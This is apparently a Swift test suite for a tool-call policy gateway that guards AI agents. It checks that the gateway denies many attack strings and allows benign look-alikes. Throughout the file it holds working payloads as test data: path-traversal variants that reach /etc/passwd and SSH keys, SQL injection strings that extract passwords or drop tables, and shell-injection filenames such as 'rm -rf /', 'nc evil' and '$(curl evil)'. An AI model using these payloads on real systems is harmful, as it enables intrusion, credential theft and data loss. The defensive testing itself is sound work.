import Foundation
import Policy
import Testing

/// Real attack strings against the shipped example policies (policies/), with the benign look-alikes that must pass.
@Suite("Attack table against the shipped policies")
struct AttackTableTests {
    static let snapshot = try! PolicyFixtures.shipped()

    func decide(
        _ tenant: String, _ tool: String, _ arguments: String, agent: String = "bot1", scopes: Set<String> = ["tools:read"]
    ) throws -> PolicyDecision {
        Self.snapshot.evaluate(try PolicyFixtures.call(tool, arguments, agent: agent, tenant: tenant, scopes: scopes))
    }

    @Test(
        "path traversal in every disguise is denied (acme read_file)",
        arguments: [
            #"{"path":"../../etc/passwd"}"#, #"{"path":"..\\..\\windows\\win.ini"}"#, #"{"path":"%2e%2e/%2e%2e/etc/passwd"}"#,
            #"{"path":"%252e%252e/etc/passwd"}"#, #"{"path":"%25252e%25252e%25252fetc"}"#, #"{"path":"．．／．．／etc/passwd"}"#,
            #"{"path":"docs/../../secret"}"#, #"{"opts":{"path":"../x"}}"#, #"{"path":["ok.txt","../x"]}"#,
            #"{"PATH":"../x"}"#, #"{"Path":"../x"}"#, #"{"ＰＡＴＨ":"../x"}"#, #"{"path":"ok.txt","PATH":"../x"}"#,
            #"{"path":"notes.txt\u0000../../etc/passwd"}"#, #"{"path":"/etc/passwd"}"#, #"{"path":"C:/Windows/system.ini"}"#,
            #"{"path":"~/.ssh/id_rsa"}"#, #"{"path":"..%c0%af../etc"}"#, #"{"path":"..%5c..%5cboot.ini"}"#,
        ])
    func traversal(arguments: String) throws {
        let decision = try decide("acme", "read_file", arguments)
        #expect(decision.outcome == .deny, "\(arguments): \(decision.reason)")
        #expect(["R4", "A1", "G2"].contains(decision.rule), "\(arguments): decided by \(decision.rule)")
    }

    @Test(
        "separators and dots hidden in grapheme clusters, look-alikes and absolute forms are seen (acme read_file)",
        arguments: [
            // A combining mark after `/` or `.`, or a format character before it, once glued them into one Character.
            "/\u{0301}etc/cron.d/x", "..\u{0301}/..\u{0301}/etc/passwd", "a/\u{200B}../\u{200B}../etc", "\u{2060}/root/.ssh",
            "..\u{FE0F}/x", ".\u{0301}./secret",
            // Unicode slash and dot look-alikes.
            "..\u{2215}..\u{2215}etc", "..\u{2044}x", "\u{2024}\u{2024}/x", "..\u{FE68}x", "\u{FF0E}\u{FF0E}/x",
            // Windows trims trailing dots and spaces; dots-only segments.
            "..../x", "....//etc", ".. /x",
            // Absolute in other words: whitespace or NBSP first, file:, UNC.
            " /etc/passwd", "\u{00A0}/etc/passwd", "file:///etc/passwd", "\\\\server\\share\\x",
            // Control characters.
            "notes\u{0007}.txt", "a\u{0085}b",
        ])
    func hiddenSeparators(path: String) throws {
        var encoded: [UInt8] = []
        for scalar in path.unicodeScalars {
            if scalar.value < 0x20 || scalar == "\"" || scalar == "\\" || scalar.value > 0x7E {
                encoded += Array(String(format: "\\u%04x", scalar.value).utf8)
            } else {
                encoded.append(UInt8(scalar.value))
            }
        }
        let arguments = #"{"path":""# + String(decoding: encoded, as: UTF8.self) + #""}"#
        let decision = try decide("acme", "read_file", arguments)
        #expect(decision.outcome == .deny, "\(arguments): \(decision.reason)")
    }

    @Test(
        "JSON inside a string argument is checked as the structure a server decodes from it (acme read_file)",
        arguments: [
            #"{"files":"[{\"path\":\"../../../../etc/cron.d/x\"}]"}"#,
            #"{"files":"[{\"path\":\"\\u002e\\u002e/\\u002e\\u002e/etc/passwd\"}]"}"#,
            #"{"opts":" {\"path\": \"/etc/shadow\"}"}"#,
            #"{"files":"[\"{\\\"path\\\":\\\"../x\\\"}\"]"}"#,
            // Found in review: JSON that Python's json.loads reads and a strict parser does not, or that was over the
            // bounds the gateway once tried.
            #"{"files":"[{\"path\":\"../../etc/passwd\",\"n\":NaN}]"}"#,
            #"{"files":"[{\"path\":\"../../etc/passwd\",\"n\":-Infinity}]"}"#,
            #"{"files":"[{\"path\":\"ok\",\"path\":\"../../etc/passwd\"}]"}"#,
            #"{"files":"[{\"path\":\"../../etc/passwd\",\"x\":\"\\ud800\"}]"}"#,
            #"{"files":"[{\"path\":\"../../etc/passwd\"}"# + String(repeating: " ", count: 70_000) + #"]"}"#,
            #"{"opts":""# + String(repeating: #"{\"a\":"#, count: 17) + #"{\"path\":\"../../etc/passwd\"}"#
                + String(repeating: "}", count: 17) + #""}"#,
            #"{"opts":""# + String(repeating: #"{\"a\":"#, count: 70) + #"{\"path\":\"../../etc/passwd\"}"#
                + String(repeating: "}", count: 70) + #""}"#,
        ])
    func nestedJSON(arguments: String) throws {
        let decision = try decide("acme", "read_file", arguments)
        #expect(decision.outcome == .deny, "\(arguments.prefix(200)): \(decision.reason)")
    }

    @Test("a string that merely looks like JSON, or holds benign JSON, passes")
    func benignNestedJSON() throws {
        #expect(try decide("acme", "read_file", #"{"path":"notes.txt","files":"[{\"path\":\"docs/a.txt\"}]"}"#).outcome == .allow)
        #expect(try decide("acme", "read_file", #"{"path":"[draft] notes.txt"}"#).outcome == .allow)
        #expect(try decide("acme", "read_file", #"{"path":"notes.txt","opts":"[1, NaN, {\"a\": \"b\", \"a\": \"c\"}]"}"#).outcome == .allow)
        // A JSON document passed as a string has a budget of values of its own (50,000), apart from the arguments'.
        let document = "[" + Array(repeating: "1", count: 15_000).joined(separator: ",") + "]"
        let large = try decide("acme", "read_file", #"{"path":"notes.txt","content":"\#(document)"}"#)
        #expect(large.outcome == .allow, "\(large.reason)")
        // Text that stops being JSON before it nests deep is only text, however many brackets follow.
        let brackets = "[" + String(repeating: "see {", count: 70)
        #expect(try decide("acme", "read_file", #"{"path":"notes.txt","note":"\#(brackets)"}"#).outcome == .allow)
    }

    @Test(
        "benign file names pass",
        arguments: [
            #"{"path":"notes..txt"}"#, #"{"path":"docs/report.v2..final.md"}"#, #"{"path":"a/b/c.txt"}"#, #"{"path":"..hidden"}"#,
            #"{"path":"100%.txt"}"#,
        ])
    func benignPaths(arguments: String) throws {
        let decision = try decide("acme", "read_file", arguments)
        #expect(decision.outcome == .allow, "\(arguments): \(decision.reason)")
    }

    @Test(
        "SQL injection is denied where the detector applies (acme query_db, globex exec_sql)",
        arguments: [
            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE name = '' OR '1'='1'"}"#),
            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE id = 1; DROP TABLE users; --"}"#),
            ("acme", "query_db", #"{"sql":"SELECT a FROM t WHERE b='x' UNION SELECT password FROM users"}"#),
            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE name = 'admin'--'"}"#),
            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE id=1 AND SLEEP(5)"}"#),
            ("acme", "query_db", #"{"sql":"SELECT%20*%20FROM%20t%20WHERE%20a%3D''%20OR%201%3D1"}"#),
            ("acme", "query_db", #"{"sql":"SELECT * FROM t WHERE a = 'x' uNiOn/**/SeLeCt pw FROM u"}"#),
            ("globex", "exec_sql", #"{"query":"SELECT * FROM t WHERE a=''; DELETE FROM t; "}"#),
            ("globex", "exec_sql", #"{"query":"DELETE FROM t"}"#),
            // Missed by the regular expressions the detector used before its tokenizer:
            ("acme", "query_db", #"{"sql":"select 1;drop/**/table users"}"#),
            ("globex", "exec_sql", #"{"query":"select 1;drop/**/table users"}"#),
            ("acme", "query_db", #"{"sql":"SELECT 1; ATTACH DATABASE '/tmp/x.db' AS x"}"#),
            ("acme", "query_db", #"{"sql":"ATTACH DATABASE '/tmp/x.db' AS x"}"#),
            ("acme", "query_db", #"{"sql":"COPY users TO '/tmp/users.csv'"}"#),
            ("acme", "query_db", #"{"sql":"PRAGMA writable_schema = 1"}"#),
            ("acme", "query_db", #"{"sql":"' or true--"}"#),
            ("acme", "query_db", #"{"sql":"SELECT a FROM t WHERE id = 1 union select(password) from users"}"#),
            ("acme", "query_db", #"{"sql":"SELECT a FROM t WHERE id = 1 union distinct select password from users"}"#),
            ("acme", "query_db", #"{"sql":"SELECT a FROM t WHERE id = 1 and sleep/**/(5)"}"#),
            ("globex", "exec_sql", #"{"query":"select * from t where id = 1 or 2>1"}"#),
            // Found by the sqlmap corpus and in review: quotes that even out, blind-injection shapes, dialects.
            ("acme", "query_db", #"{"sql":"1' OR '1'='1"}"#), ("acme", "query_db", #"{"sql":"1') AND 5647=5647 AND ('OLKB'='OLKB"}"#),
            ("acme", "query_db", #"{"sql":"1) AND 7779=UUID_TO_BIN(CONCAT('q',(SELECT (ELT(7779=7779,1))),'q'))-- x"}"#),
            ("acme", "query_db", #"{"sql":"(SELECT CONCAT('qvpvq',(ELT(7199=7199,1)),'qvxpq'))"}"#),
            ("acme", "query_db", #"{"sql":"select' OR 'a'='a"}"#), ("acme", "query_db", #"{"sql":"Show'; DROP TABLE users; SELECT '"}"#),
            ("acme", "query_db", #"{"sql":"1 AND ARRAY[[1]] IS NOT NULL;DROP TABLE users;--]"}"#),
            ("acme", "query_db", #"{"sql":"0--1 OR 1=1"}"#), ("acme", "query_db", #"{"sql":"1/*M! OR 1=1*/"}"#),
            ("acme", "query_db", #"{"sql":"1 HAVING 4616=4616"}"#),
            // Found in review: nested block comments (PostgreSQL, SQL Server) hiding the rest from the other readings,
            // and values that start like a query but are spliced into a literal.
            ("acme", "query_db", #"{"sql":"SELECT 1 /* /* */ # $a$ [ */ ; DROP TABLE t; -- ] $a$"}"#),
            ("acme", "query_db", #"{"sql":"1 /* /* */ # $a$ [ */ UNION SELECT password FROM users -- ] $a$"}"#),
            ("acme", "query_db", #"{"sql":"select '; DO $$BEGIN DELETE FROM t; END$$ LANGUAGE plpgsql --'"}"#),
            ("acme", "query_db", #"{"sql":"select ' OR (SELECT substr(password,1,1) FROM users WHERE id=1)='s"}"#),
            ("acme", "query_db", #"{"sql":"select ' OR CAST((SELECT password FROM users LIMIT 1) AS int)=1 OR name='"}"#),
            // acme's A2 says read-only SQL, and means it (found by review: only the injection detector ran).
            ("acme", "query_db", #"{"sql":"DROP TABLE users"}"#), ("acme", "query_db", #"{"sql":"UPDATE users SET admin=true"}"#),
            ("acme", "query_db", #"{"sql":"VACUUM INTO '/tmp/x.db'"}"#),
            ("acme", "query_db", #"{"sql":"SELECT load_extension('/tmp/x.so')"}"#),
        ])
    func sqlInjection(tenant: String, tool: String, arguments: String) throws {
        let decision = try decide(tenant, tool, arguments)
        #expect(decision.outcome == .deny, "\(arguments): \(decision.reason)")
    }

    @Test("benign SQL and names pass")
    func benignSQL() throws {
        #expect(try decide("acme", "query_db", #"{"sql":"SELECT name FROM people WHERE name = 'O''Brien'"}"#).outcome == .audit)
        #expect(try decide("globex", "exec_sql", #"{"query":"select id from tickets where owner = 'bob'"}"#).outcome == .allow)
        for query in [
            "select id from tickets where owner = 'bob' or assignee = 'bob'", "select id from t where note = 'a;b -- c'",
            "select count(*) from orders where status in ('open','closed') order by id", "select \"union\" from t where x = 1",
            "select id from t where a = 1 and b = 2 -- newest first", "select name from people where name = 'O''Brien'",
        ] {
            let decision = try decide("globex", "exec_sql", #"{"query":"\#(query.replacingOccurrences(of: "\"", with: "\\\""))"}"#)
            #expect(decision.outcome == .allow, "\(query): \(decision.reason)")
        }
        // No detector applies to a ticket title: O'Brien; DROP is just text there.
        #expect(try decide("globex", "create_ticket", #"{"title":"O'Brien says: DROP the old plan"}"#).outcome == .audit)
    }

    @Test(
        "shell metacharacters are denied where the detector applies (globex convert_document)",
        arguments: [
            "report.pdf; rm -rf /", "a.pdf | nc evil 1", "$(curl evil)", "`id`.pdf", "a.pdf && reboot", "x > /etc/passwd",
            "${IFS}cat", "$HOME/x", "a.pdf\nrm", "%3B%20rm%20-rf", "ａ．ｐｄｆ；ｒｍ",
            // Found by review: X4 took absolute paths.
            "/etc/shadow", "~/.ssh/id_rsa",
        ])
    func shell(filename: String) throws {
        let escaped = filename.replacingOccurrences(of: "\n", with: "\\n")
        let decision = try decide("globex", "convert_document", #"{"filename":"\#(escaped)"}"#)
        #expect(decision.outcome == .deny, "\(filename): \(decision.reason)")
        #expect(decision.rule == "X4")
    }

    @Test("benign file names pass the shell detector")
    func benignShell() throws {
        #expect(try decide("globex", "convert_document", #"{"filename":"Q3 report (final).pdf"}"#).outcome == .allow)
        #expect(try decide("globex", "convert_document", #"{"filename":"price-$5.pdf"}"#).outcome == .allow)
        // `#` inside a word is a character of it, not a comment.
        #expect(try decide("globex", "convert_document", #"{"filename":"issue#42.pdf"}"#).outcome == .allow)
        #expect(try decide("globex", "convert_document", #"{"filename":"a\\ #b.pdf"}"#).outcome == .deny, "the folded form reads `a/ #b`")
        // A shell would read `\;` as a literal semicolon, but the slash-folded form (`a/;b`) is checked too: fail closed.
        #expect(try decide("globex", "convert_document", #"{"filename":"a\\;b.pdf"}"#).outcome == .deny)
    }

    @Test(
        "the shell detector reads quoting like a shell: a value that closes the quote it is spliced into is caught",
        arguments: [
            ("'; reboot; '", "spliced into '…'"), ("x'$(id)'", "spliced into '…'"), ("\"; reboot; \"", "spliced into \"…\""),
            ("'`id`'", "spliced into '…'"), ("$'\\x3b'reboot", "ANSI-C"), ("a$?b", "special parameter"),
            ("\"$(id)\"", "command substitution"), ("a\u{0}b", "NUL byte"),
            // Found in review: a comment cuts off what the tool puts after the value.
            ("report.txt #", "comment"), ("#", "comment"), ("x' #", "comment"),
        ])
    func shellQuoting(filename: String, expected: String) throws {
        let json = try jsonLiteral(filename)
        let decision = try decide("globex", "convert_document", #"{"filename":\#(json)}"#)
        #expect(decision.outcome == .deny, "\(filename): \(decision.reason)")
        #expect(decision.reason.contains(expected), "\(filename): \(decision.reason)")
    }

    /// `text` as a JSON string literal.
    private func jsonLiteral(_ text: String) throws -> String {
        String(decoding: try JSONSerialization.data(withJSONObject: [text], options: [.fragmentsAllowed]), as: UTF8.self)
            .dropFirst().dropLast().description
    }

    @Test("agent, scope and argument requirements of acme query_db")
    func queryRequirements() throws {
        #expect(try decide("acme", "query_db", #"{"sql":"SELECT 1 "}"#, agent: "bot2").outcome == .deny)
        #expect(try decide("acme", "query_db", #"{"sql":"SELECT 1 "}"#, scopes: []).outcome == .deny)
        #expect(try decide("acme", "query_db", #"{"sql":7}"#).outcome == .deny)
        #expect(try decide("acme", "query_db", #"{}"#).outcome == .deny)
        // Too long is found before any detector reads the value (the cheap check first: a 62 KiB value took the SQL
        // detector hundreds of milliseconds on the event loop).
        let long = try decide("acme", "query_db", #"{"sql":"' OR 1=1 --\#(String(repeating: " ", count: 3000))"}"#)
        #expect(long.outcome == .deny && long.reason.contains("longer than 2000"), "\(long.reason)")
        let audited = try decide("acme", "query_db", #"{"sql":"SELECT 1 "}"#, agent: "analyst-7")
        #expect(audited.outcome == .audit)
        #expect(audited.logArguments)
    }
}
